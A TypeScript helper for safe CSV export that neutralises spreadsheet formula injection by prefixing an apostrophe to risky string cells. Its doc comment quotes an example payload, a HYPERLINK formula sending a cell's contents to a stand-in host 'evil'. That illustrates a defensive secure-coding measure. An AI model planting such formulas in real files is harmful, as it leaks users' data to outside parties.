/**
 * Ad text is written by strangers. A cell that starts with `=`, `+`, `-` or `@` (or a tab or
 * carriage return, which some spreadsheets strip before evaluating) is run as a formula when a CSV
 * is opened in Excel or LibreOffice: `=HYPERLINK("http://evil/?"&A1)` could send data away. A
 * leading apostrophe makes the spreadsheet show the value as text (OWASP "CSV injection").
 * It is applied to every string cell, including our own values such as E.164 phones
 * ("+4522…"), which also keeps a spreadsheet from turning those into numbers.
 */
const formulaStart = /^[=+\-@\t\r]/;

/** The value as a spreadsheet must store it so that it is never evaluated as a formula. */
export function neutraliseFormula(value: string): string {
  return formulaStart.test(value) ? `'${value}` : value;
}

/** A cell of an export row: strings are neutralised, numbers and empty cells pass unchanged. */
export function safeCell(value: string | number | null): string | number | null {
  return typeof value === 'string' ? neutraliseFormula(value) : value;
}
